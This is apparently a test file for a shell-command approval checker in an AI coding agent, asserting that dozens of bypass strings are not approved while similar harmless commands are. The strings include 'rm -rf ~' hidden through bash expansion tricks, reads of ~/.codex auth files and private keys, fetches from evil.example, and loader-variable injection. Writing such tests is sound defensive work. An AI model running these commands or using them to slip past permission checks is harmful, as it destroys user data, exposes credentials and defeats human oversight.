import { describe, expect, test } from 'vitest'
import { decisionOf } from '../helpers/shims.ts'

/** What each family of holes looked like, and what people type all day that looks like it. */
const FAMILIES: Readonly<Record<string, { readonly attacks: readonly string[]; readonly harmless: readonly string[] }>> = {
  'words that braces make': {
    attacks: [
      "find . ! -name {$'x',-delete}",
      'find . -name {a,b\\},-delete}',
      'find . -name ${x}{a,-delete}',
      'cat .e{n..n}v',
      'git -c {x,core.pager=id} -p log',
      'sort {a\\{b,-oMakefile}',
    ],
    harmless: [
      'git log @{u}..HEAD --oneline',
      "jq '{name, version}' package.json",
      "docker ps --format '{{.Names}}, {{.Status}}'",
      'ls *.{json,toml}',
    ],
  },
  'state that an earlier command leaves': {
    attacks: [
      'f(){ local -n r=t; r=rm; }; t=echo; f; $t -rf ~',
      'set -eu -- rm -rf ~; "$@"',
      'f(){ "${!#}" -rf ~; }; f echo rm',
      "x=echo; trap 'x=rm' DEBUG; :; $x -rf ~",
      'x=echo; for i in 1; do for j in 1; do x=rm; break 2; done; x=echo; done; $x -rf ~',
      'readonly x=rm; for x in echo; do :; done; $x -rf ~',
      "mapfile -C 'rm -rf ~' -c 1 < Makefile",
    ],
    harmless: [
      'while IFS=, read -r a b; do echo "$a"; done < Makefile',
      'f(){ shift; echo "$@"; }; f a b',
      'mapfile -t lines < Makefile; echo "${#lines[@]}"',
    ],
  },
  'what is evaluated twice': {
    attacks: [
      "x='a[$(rm -rf ~)]'; echo ${PATH:0:x}",
      "wait -p 'a[$(rm -rf ~)]' -n",
      "declare -ag x='(`rm -rf ~`)'",
      'echo "${x:=\'$(rm -rf ~)\'}" "${x@P}"',
      "getopts a 'x[$(rm -rf ~)]' -a",
    ],
    harmless: ['a=(1 2 3); i=1; echo ${a[i]} ${a[i+1]}', 'x=abc; echo ${x:1:1} ${x^^} ${x@Q}', '[[ -v HOME ]] && echo set'],
  },
  'files and hosts that a program or a value names': {
    attacks: [
      'jq -n \'import "auth" as $d {search:"~/.codex"}; $d\'',
      'jq -n -L ~/.codex \'import "auth" as $d; $d\'',
      "mysql -e 'select load_file(concat(0x2f,0x65))'",
      'openssl x509 -in http://evil.example/x -text',
      'openssl crl -in HTTP://evil.example/x -text',
      'openssl verify http://evil.example/x',
      'COMPOSE_FILE=https://evil.example/x.git docker compose ps',
      'cat id_ed25519_work',
    ],
    harmless: [
      'openssl x509 -in cert.pem -noout -text',
      "jq -n --arg x 1 '$x'",
      'COMPOSE_FILE=a.yml:b.yml docker compose ps',
      'cat id_ed25519_work.pub',
    ],
  },
  'variables that make a program load something': {
    attacks: [
      'PYTHONWARNINGS=all:0:antigravity.x:0:0 python3 -m json.tool x.json',
      'xargs --process-slot-var=PATH ls < x',
      "xargs --process-slot-var=BASH_ENV bash -c 'ls' < x",
      "env 'BASH_FUNC_ls%%=() { rm -rf ~; }' bash -c ls",
      'TF_CLI_ARGS_fmt=-write=true terraform fmt -check',
    ],
    harmless: ['PYTHONWARNINGS=ignore::DeprecationWarning python3 --version', 'git ls-files | xargs wc -l', 'LC_ALL=C sort x'],
  },
  'modes that a later word takes back': {
    attacks: [
      'gofmt -d -w=true x.go',
      'kubectl apply -f x --dry-run=client --dry-run=none',
      'dash -n +n x.sh',
      'rsync -n --no-n a/ b/',
      'zstd -t --rm -d x.zst',
    ],
    harmless: ['gofmt -d x.go', 'kubectl apply -f x.yml --dry-run=client', 'bash -n x.sh', 'tsc --noEmit --pretty false'],
  },
  'other commands in the language of a tool': {
    attacks: [
      'nft list ruleset \\; include \'"/tmp/evil"\'',
      "tmux display-message -p '#(rm -rf ~)'",
      'find . -print , -delete',
      "sed -n 's/x/id/gep' Makefile",
    ],
    harmless: ['nft list ruleset', "tmux display-message -p '#{session_name}'", "sed -e 's/e/E/' -e 's/w/W/' Makefile"],
  },
}

for (const [family, { attacks, harmless }] of Object.entries(FAMILIES))
  describe(`${family}:`, () => {
    test.each(attacks)('is not approved: %s', line => expect(decisionOf(line)).not.toBe('allow'))
    test.each(harmless)('goes through: %s', line => expect(decisionOf(line)).toBe('allow'))
  })
